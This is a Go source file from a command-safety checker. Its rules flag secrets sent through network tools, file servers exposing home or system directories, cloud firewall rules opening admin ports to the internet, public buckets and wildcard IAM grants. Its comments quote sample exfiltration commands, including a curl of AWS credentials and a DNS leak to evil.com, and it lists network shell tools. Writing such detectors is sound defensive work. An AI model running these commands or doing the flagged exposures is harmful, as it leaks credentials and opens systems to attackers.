package safety

import (
	"regexp"
	"strconv"
	"strings"
)

// Rules about exfiltration and exposure: secrets read into the arguments of a command that talks to the
// network (a URL, a DNS name), file servers publishing the home directory or the system, security groups
// open to the whole internet on admin ports, public buckets and wildcard IAM policies.

func init() {
	genericRules = append(genericRules, ruleSecretInArgs)
	register(ruleFileServer, "python", "python2", "python3", "php", "ruby", "npx", "http-server", "httpd",
		"busybox-httpd", "miniserve", "darkhttpd", "updog", "caddy", "twistd", "webfsd", "serve", "socat")
	register(ruleCloudUpload, "aws", "gsutil", "gcloud", "gh", "az", "mc", "s3cmd", "azcopy")
	register(ruleAwsExposure, "aws")
	register(ruleGcloudExposure, "gcloud", "gsutil")
	register(ruleAzExposure, "az")
}

// netTalkers send their arguments over the network, if only as a DNS query.
var netTalkers = setOf("curl", "wget", "nc", "ncat", "netcat", "telnet", "socat", "ssh", "scp", "sftp", "ftp",
	"dig", "nslookup", "host", "drill", "ping", "ping6", "traceroute", "http", "https", "xh", "httpie", "openssl",
	"mail", "mailx", "sendmail", "whois", "kdig", "delv", "resolvectl", "getent", "fping", "arping", "tracepath")

// ruleSecretInArgs catches secrets read by a substitution into the arguments of a command that talks to
// the network: curl "https://x/?k=$(cat ~/.aws/credentials)", dig $(base64 key).evil.com.
func ruleSecretInArgs(c *checker, cl *call) {
	if !netTalkers[cl.Name] {
		return
	}
	if cl.Name != "nc" && cl.Name != "ncat" && cl.Name != "netcat" && cl.Name != "telnet" {
		for _, r := range cl.Redirs {
			if r.Op == "<" && !r.Target.Dynamic && isSecret(r.Target.Value, c.home) {
				c.flagCall(cl, "net.exfiltrate", Critical, cl.Name+" sends "+r.Target.Value+", which holds keys or credentials, to a remote host")
				return
			}
		}
	}
	for _, a := range cl.Args {
		if len(a.Subs) > 0 && c.readsSecret(a.Subs, 0) {
			how := "sends"
			switch cl.Name {
			case "dig", "nslookup", "host", "drill", "ping", "ping6", "kdig", "delv", "resolvectl", "getent", "fping", "traceroute", "tracepath":
				how = "leaks, as DNS names looked up by " + cl.Name + ","
			}
			c.flagCall(cl, "net.exfiltrate", Critical, cl.Name+" "+how+" the content of a secret file to a remote host")
			return
		}
	}
}

// serveRisk rates a file server by what it publishes, dir, and to whom, addr.
func (c *checker) serveRisk(cl *call, dir arg, addr, server string) {
	where := "to anyone who can reach this machine"
	local := addr == "127.0.0.1" || addr == "localhost" || addr == "::1" || strings.HasPrefix(addr, "127.")
	if local {
		where = "to this machine only (" + addr + ")"
	}
	if dir.Dynamic {
		c.flagCall(cl, "net.http-server", Moderate, server+" serves "+dir.Value+", a directory only known at run time, "+where)
		return
	}
	d := dir.Value
	if d == "" || d == "." {
		if cl.Cwd == "" {
			c.flagCall(cl, "net.http-server", Moderate, server+" serves the current directory "+where)
			return
		}
		d = cl.Cwd
	}
	d = c.abs(cl, arg{Value: d, Head: d, Tail: d}).Value
	if d == "~" || strings.HasPrefix(d, "~/") {
		d = c.home + d[1:]
	}
	r, what := Moderate, d
	switch classifyPath(d, c.home) {
	case pathHome:
		r, what = Critical, "your home directory ("+d+"), with its ssh keys, credentials and history,"
	case pathRoot:
		r, what = Critical, "the whole file system (/), /etc/shadow and every home directory included,"
	case pathSensitive:
		r, what = Critical, d+", which holds keys or credentials,"
	case pathSystem:
		r, what = High, "the system directory "+d
	}
	if local {
		r = Moderate // only local users and programs can fetch it
	}
	c.flagCall(cl, "net.expose-files", r, server+" serves "+what+" over HTTP "+where)
}

// ruleFileServer catches the one-line file servers of every language, and socat serving a file.
func ruleFileServer(c *checker, cl *call) {
	args := cl.Args
	switch cl.Name {
	case "python", "python2", "python3":
		mod := pythonModule(cl)
		if len(mod) == 0 || mod[0].Value != "http.server" && mod[0].Value != "SimpleHTTPServer" {
			return
		}
		rest := mod[1:]
		dir := arg{Value: "."}
		if d := valuesOf(rest, "-d", "--directory"); len(d) > 0 {
			dir = d[0]
		}
		addr := "0.0.0.0"
		if b := valuesOf(rest, "-b", "--bind"); len(b) > 0 {
			addr = b[0].Value
		}
		c.serveRisk(cl, dir, addr, "python -m "+mod[0].Value)
	case "php":
		s := valuesOf(args, "-S")
		if len(s) == 0 {
			return
		}
		addr, _, _ := strings.Cut(s[0].Value, ":")
		dir := arg{Value: "."}
		if t := valuesOf(args, "-t"); len(t) > 0 {
			dir = t[0]
		}
		c.serveRisk(cl, dir, addr, "php -S")
	case "ruby":
		// ruby -run -e httpd DIR -p PORT
		for i, a := range args {
			if a.Value == "httpd" && i > 0 && args[i-1].Value == "-e" {
				dir := arg{Value: "."}
				if ops := operands(args[i+1:], "pb"); len(ops) > 0 {
					dir = ops[0]
				}
				addr := "0.0.0.0"
				if b := valuesOf(args[i+1:], "-b", "--bind-address"); len(b) > 0 {
					addr = b[0].Value
				}
				c.serveRisk(cl, dir, addr, "ruby -run -e httpd")
			}
		}
	case "npx", "http-server", "serve", "miniserve", "darkhttpd", "updog", "httpd", "busybox-httpd", "webfsd":
		if cl.Name == "npx" {
			if len(args) == 0 || (args[0].Value != "http-server" && args[0].Value != "serve") {
				return
			}
			args = args[1:]
		}
		dir := arg{Value: "."}
		addr := "0.0.0.0"
		switch cl.Name {
		case "httpd", "busybox-httpd":
			h := valuesOf(args, "-h")
			if len(h) == 0 || h[0].Value == "" || strings.HasPrefix(h[0].Value, "-") {
				return // Apache's httpd: -h is its help, and it serves its configured root
			}
			dir = h[0]
		case "updog":
			if d := valuesOf(args, "-d", "--directory"); len(d) > 0 {
				dir = d[0]
			}
		case "webfsd":
			if d := valuesOf(args, "-r"); len(d) > 0 {
				dir = d[0]
			}
		default:
			if ops := operands(args, "pPaicCdtSl"); len(ops) > 0 {
				dir = ops[0]
			}
			if a := valuesOf(args, "-a", "--address", "-i", "--interfaces", "--host"); len(a) > 0 {
				addr = a[0].Value
			}
		}
		c.serveRisk(cl, dir, addr, cl.Name)
	case "caddy":
		if len(args) == 0 || args[0].Value != "file-server" {
			return
		}
		dir := arg{Value: "."}
		if r := valuesOf(args, "--root", "-r"); len(r) > 0 {
			dir = r[0]
		}
		c.serveRisk(cl, dir, "0.0.0.0", "caddy file-server")
	case "twistd":
		for _, p := range valuesOf(args, "--path") {
			c.serveRisk(cl, p, "0.0.0.0", "twistd web")
		}
	case "socat":
		listens := false
		for _, a := range args {
			l := strings.ToUpper(a.Value)
			if strings.HasPrefix(l, "TCP-LISTEN:") || strings.HasPrefix(l, "TCP4-LISTEN:") || strings.HasPrefix(l, "TCP6-LISTEN:") ||
				strings.HasPrefix(l, "OPENSSL-LISTEN:") || strings.HasPrefix(l, "UDP-LISTEN:") {
				listens = true
			}
		}
		if !listens {
			return
		}
		for _, a := range args {
			if f, ok := cutFold(a.Value, "FILE:"); ok {
				f, _, _ = strings.Cut(f, ",")
				if isSecret(f, c.home) || classifyPath(f, c.home) == pathSensitive {
					c.flagCall(cl, "net.exfiltrate", Critical, "socat serves "+f+", which holds keys or credentials, to whoever connects")
				}
			}
		}
	}
}

func cutFold(s, prefix string) (string, bool) {
	if len(s) >= len(prefix) && strings.EqualFold(s[:len(prefix)], prefix) {
		return s[len(prefix):], true
	}
	return "", false
}

// adminPorts are ports of remote administration and databases: open to the internet, they are attacked
// within minutes.
var adminPorts = map[int]string{22: "ssh", 23: "telnet", 3389: "RDP", 5900: "VNC", 3306: "MySQL",
	5432: "PostgreSQL", 1433: "SQL Server", 1521: "Oracle", 6379: "Redis", 27017: "MongoDB", 9200: "Elasticsearch",
	11211: "memcached", 2375: "the docker API", 2376: "the docker API", 2379: "etcd", 6443: "the Kubernetes API",
	10250: "the kubelet", 445: "SMB", 139: "NetBIOS", 135: "RPC", 5985: "WinRM", 5986: "WinRM", 9090: "admin consoles",
	8080: "admin consoles", 5601: "Kibana", 15672: "RabbitMQ", 21: "FTP", 161: "SNMP", 873: "rsync"}

// openAdminPort returns the admin service a port specification opens: "22", "20-25", "tcp:22",
// "0-65535", "*", "all" or "-1".
func openAdminPort(spec string) string {
	spec = strings.TrimSpace(strings.Trim(spec, `"'`))
	if _, p, ok := strings.Cut(spec, ":"); ok {
		spec = p
	}
	switch strings.ToLower(spec) {
	case "*", "all", "-1", "any", "", "tcp", "udp":
		return "every port"
	}
	lo, hi, isRange := strings.Cut(spec, "-")
	a, err := strconv.Atoi(lo)
	if err != nil {
		return ""
	}
	b := a
	if isRange {
		if b, err = strconv.Atoi(hi); err != nil {
			return ""
		}
	}
	if b-a > 1000 {
		return "every port"
	}
	for p := a; p <= b; p++ {
		if name, ok := adminPorts[p]; ok {
			return strconv.Itoa(p) + " (" + name + ")"
		}
	}
	return ""
}

// anywhere reports a source range meaning the whole internet.
func anywhere(v string) bool {
	v = strings.Trim(v, `"' `)
	return v == "0.0.0.0/0" || v == "::/0" || v == "*" || v == "Internet" || v == "Any" || v == "any" || v == "0.0.0.0"
}

var (
	ipPermCidr  = regexp.MustCompile(`(?i)CidrIp(?:v6)?["']?\s*[=:]\s*["']?(0\.0\.0\.0/0|::/0)`)
	ipPermPorts = regexp.MustCompile(`(?i)FromPort["']?\s*[=:]\s*(-?\d+)\D+ToPort["']?\s*[=:]\s*(-?\d+)`)
	ipPermAll   = regexp.MustCompile(`(?i)IpProtocol["']?\s*[=:]\s*["']?(-1|all)`)
	// policyWildcard finds an Allow statement granting every action on every resource.
	policyAction   = regexp.MustCompile(`"Action"\s*:\s*(?:"\*"|\[\s*"\*"\s*\])`)
	policyResource = regexp.MustCompile(`"Resource"\s*:\s*(?:"\*"|\[\s*"\*"\s*\])`)
	policyPrincip  = regexp.MustCompile(`"Principal"\s*:\s*(?:"\*"|\{\s*"AWS"\s*:\s*"\*"\s*\})`)
)

// adminPolicies grant everything.
var adminPolicies = []string{"AdministratorAccess", "PowerUserAccess", "IAMFullAccess"}

func ruleAwsExposure(c *checker, cl *call) {
	v := verbs(cl.Args, setOf("--profile", "--region", "--output", "--query", "--endpoint-url", "--bucket", "--key",
		"--group-id", "--protocol", "--port", "--cidr", "--acl", "--policy", "--policy-document", "--user-name",
		"--role-name", "--group-name", "--policy-name", "--policy-arn", "--ip-permissions", "--grant-read",
		"--grant-full-control", "--source-group", "--public-access-block-configuration"))
	if len(v) < 2 {
		return
	}
	svc, op := v[0], v[1]
	one := func(opt string) string {
		if vals := valuesOf(cl.Args, opt); len(vals) > 0 {
			return vals[0].Value
		}
		return ""
	}
	switch {
	case svc == "ec2" && (op == "authorize-security-group-ingress" || op == "modify-security-group-rules"):
		perms := one("--ip-permissions") + " " + one("--security-group-rules")
		open := anywhere(one("--cidr")) || ipPermCidr.MatchString(perms)
		if !open {
			return
		}
		port := ""
		switch {
		case ipPermAll.MatchString(perms) || one("--protocol") == "-1" || one("--protocol") == "all":
			port = "every port"
		case one("--port") != "":
			port = openAdminPort(one("--port"))
		default:
			for _, m := range ipPermPorts.FindAllStringSubmatch(perms, 8) {
				if p := openAdminPort(m[1] + "-" + m[2]); p != "" {
					port = p
				}
			}
		}
		if port != "" {
			c.flagCall(cl, "cloud.open-admin-port", High, "opens "+port+" to the whole internet (0.0.0.0/0)")
		}
	case svc == "s3api" && (op == "put-bucket-acl" || op == "put-object-acl"):
		acl := one("--acl")
		grant := one("--grant-read") + one("--grant-full-control") + one("--grant-write")
		if strings.HasPrefix(acl, "public-") || acl == "authenticated-read" || strings.Contains(grant, "AllUsers") ||
			strings.Contains(grant, "AuthenticatedUsers") {
			r := High
			if op == "put-object-acl" {
				r = Moderate
			}
			c.flagCall(cl, "cloud.public-bucket", r, "aws s3api "+op+" makes the data readable by anyone on the internet")
		}
	case svc == "s3" && (op == "cp" || op == "sync" || op == "mv"):
		if acl := one("--acl"); strings.HasPrefix(acl, "public-") {
			c.flagCall(cl, "cloud.public-bucket", Moderate, "aws s3 "+op+" --acl "+acl+" publishes the files to anyone on the internet")
		}
	case svc == "s3api" && op == "put-bucket-policy":
		if p := one("--policy"); policyPrincip.MatchString(p) && strings.Contains(p, `"Allow"`) {
			c.flagCall(cl, "cloud.public-bucket", High, "the bucket policy lets anyone on the internet (Principal \"*\") in")
		}
	case svc == "s3api" && op == "put-public-access-block":
		if strings.Contains(strings.ToLower(one("--public-access-block-configuration")), "=false") {
			c.flagCall(cl, "cloud.public-bucket", High, "turns off the bucket's block on public access")
		}
	case svc == "iam" && (strings.HasPrefix(op, "put-") && strings.HasSuffix(op, "-policy") || op == "create-policy" || op == "create-policy-version"):
		doc := one("--policy-document")
		if policyAction.MatchString(doc) && policyResource.MatchString(doc) && strings.Contains(doc, `"Allow"`) {
			c.flagCall(cl, "cloud.iam-wildcard", High, "aws iam "+op+" grants every action on every resource (\"Action\": \"*\", \"Resource\": \"*\")")
		}
	case svc == "iam" && strings.HasPrefix(op, "attach-") && strings.HasSuffix(op, "-policy"):
		arn := one("--policy-arn")
		for _, p := range adminPolicies {
			if strings.HasSuffix(arn, "/"+p) {
				c.flagCall(cl, "cloud.iam-wildcard", High, "aws iam "+op+" grants "+p+": full control of the account")
			}
		}
	}
}

func ruleGcloudExposure(c *checker, cl *call) {
	args := cl.Args
	j := " " + joinArgs(args).Value + " "
	one := func(opts ...string) string {
		if vals := valuesOf(args, opts...); len(vals) > 0 {
			return vals[0].Value
		}
		return ""
	}
	member := one("--member")
	switch {
	case cl.Name == "gsutil" && (strings.Contains(j, "allUsers") || strings.Contains(j, "AllUsers") ||
		strings.Contains(j, "allAuthenticatedUsers") || strings.Contains(j, "AllAuthenticatedUsers")) &&
		(strings.Contains(j, " iam ch ") || strings.Contains(j, " acl ch ") || strings.Contains(j, " acl set ") || strings.Contains(j, " defacl ")):
		c.flagCall(cl, "cloud.public-bucket", High, "gsutil makes the bucket or objects readable by anyone on the internet")
	case cl.Name == "gsutil" && strings.Contains(j, " acl set public-read "):
		c.flagCall(cl, "cloud.public-bucket", High, "gsutil makes the objects readable by anyone on the internet")
	case strings.Contains(j, "add-iam-policy-binding") && (member == "allUsers" || member == "allAuthenticatedUsers"):
		role := one("--role")
		if role == "roles/owner" || role == "roles/editor" {
			c.flagCall(cl, "cloud.iam-public", Critical, "grants "+role+" to "+member+": anyone on the internet controls the project")
			return
		}
		c.flagCall(cl, "cloud.public-bucket", High, "grants "+role+" to "+member+": anyone on the internet")
	case strings.Contains(j, "add-iam-policy-binding"):
		switch role := one("--role"); role {
		case "roles/owner", "roles/editor", "roles/iam.securityAdmin", "roles/resourcemanager.projectIamAdmin":
			c.flagCall(cl, "cloud.iam-wildcard", High, "grants "+role+" on the project: full control of it")
		}
	case strings.Contains(j, " firewall-rules ") && (strings.Contains(j, " create ") || strings.Contains(j, " update ")):
		src := one("--source-ranges")
		if !anywhere(src) && src != "" || src == "" && !strings.Contains(j, " create ") {
			return
		}
		if strings.Contains(one("--direction"), "EGRESS") || one("--action") == "DENY" || one("--action") == "deny" {
			return
		}
		for _, rule := range strings.Split(one("--allow", "--rules"), ",") {
			if p := openAdminPort(rule); p != "" {
				c.flagCall(cl, "cloud.open-admin-port", High, "opens "+p+" to the whole internet (0.0.0.0/0)")
				return
			}
		}
	}
}

func ruleAzExposure(c *checker, cl *call) {
	args := cl.Args
	j := " " + joinArgs(args).Value + " "
	one := func(opts ...string) string {
		if vals := valuesOf(args, opts...); len(vals) > 0 {
			return vals[0].Value
		}
		return ""
	}
	switch {
	case strings.Contains(j, " nsg rule create ") || strings.Contains(j, " nsg rule update "):
		if a := one("--access"); a != "" && !strings.EqualFold(a, "Allow") || strings.EqualFold(one("--direction"), "Outbound") {
			return
		}
		if !anywhere(one("--source-address-prefixes", "--source-address-prefix")) {
			return
		}
		for _, p := range strings.Fields(one("--destination-port-ranges", "--destination-port-range")) {
			if svc := openAdminPort(p); svc != "" {
				c.flagCall(cl, "cloud.open-admin-port", High, "opens "+svc+" to the whole internet")
				return
			}
		}
	case strings.Contains(j, " storage container set-permission ") || strings.Contains(j, " storage container create "):
		if p := one("--public-access"); p == "blob" || p == "container" {
			c.flagCall(cl, "cloud.public-bucket", High, "makes the storage container readable by anyone on the internet")
		}
	case strings.Contains(j, " storage account update ") && strings.Contains(j, "--allow-blob-public-access true"):
		c.flagCall(cl, "cloud.public-bucket", High, "lets the storage account's containers be made public")
	case strings.Contains(j, " role assignment create "):
		if r := one("--role"); r == "Owner" || r == "Contributor" || r == "User Access Administrator" {
			c.flagCall(cl, "cloud.iam-wildcard", High, "grants "+r+": full control of the scope")
		}
	}
}

// ruleCloudUpload catches secrets copied to cloud storage or a gist: aws s3 cp ~/.aws/credentials s3://…,
// gsutil cp, gh gist create, az storage blob upload --file.
func ruleCloudUpload(c *checker, cl *call) {
	v := verbs(cl.Args, setOf("--profile", "--region", "--file", "-f", "--account-name", "--container-name",
		"-c", "--name", "-n", "--desc", "-d"))
	var srcs []arg
	switch {
	case (cl.Name == "aws" || cl.Name == "s3cmd") && len(v) > 1 && (v[0] == "s3" && (v[1] == "cp" || v[1] == "mv" || v[1] == "sync") || v[0] == "put" || v[0] == "sync"),
		cl.Name == "gsutil" && len(v) > 0 && (v[0] == "cp" || v[0] == "mv" || v[0] == "rsync"),
		cl.Name == "gcloud" && len(v) > 1 && v[0] == "storage" && (v[1] == "cp" || v[1] == "mv" || v[1] == "rsync"),
		cl.Name == "mc" && len(v) > 0 && (v[0] == "cp" || v[0] == "mv" || v[0] == "mirror"),
		cl.Name == "azcopy" && len(v) > 0 && (v[0] == "copy" || v[0] == "cp" || v[0] == "sync"),
		cl.Name == "gh" && len(v) > 1 && v[0] == "gist" && (v[1] == "create" || v[1] == "new" || v[1] == "edit"):
		srcs = operands(cl.Args, "")
	case cl.Name == "az" && strings.Contains(" "+joinArgs(cl.Args).Value+" ", " storage blob upload"):
		srcs = valuesOf(cl.Args, "--file", "-f", "--source", "-s")
	default:
		return
	}
	for _, a := range srcs {
		if !a.Dynamic && !strings.Contains(a.Value, "://") && isSecret(a.Value, c.home) {
			c.flagCall(cl, "net.exfiltrate", Critical, cl.Name+" uploads "+a.Value+", which holds keys or credentials, off this machine")
			return
		}
	}
}
